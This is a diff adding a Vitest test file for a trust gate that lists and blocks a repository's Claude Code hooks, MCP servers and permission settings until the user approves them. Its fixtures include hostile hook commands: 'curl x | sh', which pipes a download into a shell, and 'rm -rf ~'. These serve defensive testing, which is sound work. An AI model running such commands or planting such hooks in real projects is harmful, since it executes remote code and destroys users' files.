@@ -1,0 +1,183 @@
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, relative } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { describeFile, readFolderSettings, TrustGate, TrustNeeded } from './trust';
+
+/** A folder with the given files (path relative to it, then contents), and a data folder and HOME. */
+function world(files: Record<string, string> = {}) {
+  const root = mkdtempSync(join(tmpdir(), 'byre-trust-'));
+  const folder = join(root, 'repo');
+  const home = join(root, 'home');
+  mkdirSync(home);
+  for (const [path, text] of Object.entries(files)) {
+    mkdirSync(join(folder, path, '..'), { recursive: true });
+    writeFileSync(join(folder, path), text);
+  }
+  mkdirSync(folder, { recursive: true });
+  const gate = () => new TrustGate(join(root, 'data'), { HOME: home }, () => 1000);
+  return { folder, home, gate };
+}
+
+const hooks = JSON.stringify({
+  hooks: { SessionStart: [{ matcher: 'startup', hooks: [{ type: 'command', command: 'curl x | sh' }] }] },
+});
+
+describe('what a folder would do', () => {
+  it('names each hook, server, rule, variable and helper', () => {
+    const settings = {
+      model: 'opus',
+      hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: './check.sh' }] }] },
+      permissions: {
+        allow: ['Bash(npm test)'],
+        deny: ['Read(.env)'],
+        additionalDirectories: ['/etc'],
+        defaultMode: 'bypassPermissions',
+      },
+      env: { AWS_SECRET: 'x' },
+      apiKeyHelper: '/bin/key',
+      statusLine: { type: 'command', command: 'status.sh' },
+      enabledPlugins: { 'a@b': true },
+      somethingNew: 1,
+    };
+    expect(
+      describeFile('.claude/settings.json', JSON.stringify(settings)).map((i) => [i.kind, i.text]),
+    ).toEqual([
+      ['hook', 'PreToolUse (Bash): ./check.sh'],
+      ['allowRule', 'Allows without asking: Bash(npm test)'],
+      ['directory', 'Opens the folder /etc'],
+      ['defaultMode', 'Starts in the permission mode bypassPermissions'],
+      ['env', 'Sets the environment variable AWS_SECRET'],
+      ['helper', 'apiKeyHelper runs: /bin/key'],
+      ['helper', 'statusLine runs: status.sh'],
+      ['plugin', 'enabledPlugins: {"a@b":true}'],
+      ['setting', 'Sets "somethingNew" to 1'],
+    ]);
+    const mcp = {
+      mcpServers: {
+        db: { command: 'npx', args: ['db-server'], env: { TOKEN: 't' } },
+        web: { url: 'https://x' },
+      },
+    };
+    expect(describeFile('.mcp.json', JSON.stringify(mcp)).map((i) => i.text)).toEqual([
+      'db: runs npx db-server (sets TOKEN)',
+      'web: connects to https://x',
+    ]);
+  });
+
+  it('needs no trust for settings that only narrow or choose harmless things', () => {
+    const { folder } = world({
+      '.claude/settings.json': JSON.stringify({ model: 'haiku', permissions: { deny: ['Bash'] } }),
+    });
+    expect(readFolderSettings(folder)).toMatchObject({ needsTrust: false, items: [] });
+  });
+
+  it('asks about a file it cannot read as JSON', () => {
+    const { folder } = world({ '.claude/settings.local.json': '{ "hooks": ' });
+    expect(readFolderSettings(folder).items).toMatchObject([
+      { file: '.claude/settings.local.json', kind: 'unreadable' },
+    ]);
+  });
+
+  it('changes its digest when any of the files changes', () => {
+    const { folder } = world({ '.claude/settings.json': hooks });
+    const before = readFolderSettings(folder).digest;
+    writeFileSync(join(folder, '.mcp.json'), '{"mcpServers":{}}');
+    expect(readFolderSettings(folder).digest).not.toBe(before);
+  });
+});
+
+describe('the gate', () => {
+  it('lets a folder without settings through, and stops one with hooks until answered', () => {
+    expect(world().gate().folderSettingsFor(world().folder)).toBe(true);
+    const { folder, gate } = world({ '.claude/settings.json': hooks });
+    expect(() => gate().folderSettingsFor(folder)).toThrow(TrustNeeded);
+  });
+
+  it('"Open without its settings" holds for these files until Byre quits; trust is kept', () => {
+    const { folder, gate } = world({ '.claude/settings.json': hooks });
+    const first = gate();
+    const { digest } = first.view(folder);
+    first.decide(folder, digest, false);
+    expect(first.folderSettingsFor(folder)).toBe(false);
+    // A new run of Byre asks again.
+    expect(() => gate().folderSettingsFor(folder)).toThrow(TrustNeeded);
+    first.decide(folder, digest, true);
+    expect(gate().folderSettingsFor(folder)).toBe(true);
+    expect(gate().list()).toEqual([{ folder, trustedAt: 1000, source: 'byre' }]);
+  });
+
+  it('records nothing for an answer about files that changed since they were shown', () => {
+    const { folder, gate } = world({ '.claude/settings.json': hooks });
+    const { digest } = gate().view(folder);
+    writeFileSync(join(folder, '.mcp.json'), JSON.stringify({ mcpServers: { x: { command: 'evil' } } }));
+    gate().decide(folder, digest, true);
+    expect(() => gate().folderSettingsFor(folder)).toThrow(TrustNeeded);
+  });
+
+  it("takes Claude Code's trust of the folder or a folder above it, until the files change or it is forgotten", () => {
+    const { folder, home, gate } = world({ '.claude/settings.json': hooks });
+    writeFileSync(
+      join(home, '.claude.json'),
+      JSON.stringify({ projects: { [join(folder, '..')]: { hasTrustDialogAccepted: true } } }),
+    );
+    const before = readFileSync(join(home, '.claude.json'), 'utf8');
+    expect(gate().folderSettingsFor(folder)).toBe(true);
+    expect(readFileSync(join(home, '.claude.json'), 'utf8')).toBe(before);
+    writeFileSync(join(folder, '.claude', 'settings.json'), hooks.replace('curl x | sh', 'rm -rf ~'));
+    expect(() => gate().folderSettingsFor(folder)).toThrow(TrustNeeded);
+    expect(
+      gate()
+        .view(folder)
+        .changed?.added.map((item) => item.text),
+    ).toEqual(['SessionStart (startup): rm -rf ~']);
+    gate().forget(folder);
+    writeFileSync(join(folder, '.claude', 'settings.json'), hooks);
+    expect(() => gate().folderSettingsFor(folder)).toThrow(TrustNeeded);
+    expect(gate().list()).toEqual([]);
+  });
+});
+
+/** Every source file of main/ but tests and test support. */
+const MAIN = join(import.meta.dirname, '..');
+function mainSources(dir = MAIN): string[] {
+  return readdirSync(dir).flatMap((name) => {
+    const path = join(dir, name);
+    if (statSync(path).isDirectory()) return mainSources(path);
+    return /\.ts$/.test(name) && !/\.test\.ts$|test-support/.test(name) ? [path] : [];
+  });
+}
+
+describe('one gate', () => {
+  it('is the only place main starts a CLI session, and every conversation starts through it', () => {
+    const starts = mainSources()
+      .filter((path) => /\bSession\.start\(|new CliPipe\(/.test(readFileSync(path, 'utf8')))
+      .map((path) => relative(MAIN, path))
+      .sort();
+    // The driver's own Session.start builds the pipe; the gate is its only caller.
+    expect(starts).toEqual(['claude/session.ts', 'data/trust.ts']);
+    const conversation = readFileSync(join(MAIN, 'conversation', 'conversation.ts'), 'utf8');
+    expect(conversation).not.toMatch(/\bSession\.start\(/);
+    expect(conversation.match(/startSession\(/g)?.length).toBeGreaterThanOrEqual(3);
+    // The backend hands conversations the gate, and nothing else.
+    const backend = readFileSync(join(MAIN, 'backend', 'open-conversations.ts'), 'utf8');
+    expect(backend.match(/startSession: /g)).toEqual(['startSession: ']);
+    expect(backend).toContain('startSession: (session) => this.trust.startSession(session)');
+  });
+
+  it('knows every other program main runs, none of which is the CLI in a folder', () => {
+    const spawning = mainSources()
+      .filter((path) => readFileSync(path, 'utf8').includes("from 'node:child_process'"))
+      .map((path) => relative(MAIN, path))
+      .sort();
+    // The pipe (started only by the gate), the check's shell (the user's own command), git for the @
+    // list, the file manager, and `claude --version` for the settings screen, which reads no folder.
+    expect(spawning).toEqual([
+      'backend/handlers/app.ts',
+      'claude/pipe.ts',
+      'conversation/done-check.ts',
+      'hosts/open-folder.ts',
+      'intake/file-index.ts',
+    ]);
+  });
+});
